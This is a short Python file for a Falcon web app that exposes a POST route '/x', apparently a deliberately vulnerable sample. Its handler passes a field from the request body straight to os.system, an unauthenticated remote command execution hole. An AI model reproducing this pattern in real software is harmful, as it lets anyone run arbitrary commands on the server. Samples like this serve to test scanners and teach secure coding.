import os
import falcon
class X:
    def on_post(self, req, resp):
        os.system(req.media['a'])
app = falcon.App()
app.add_route('/x', X())
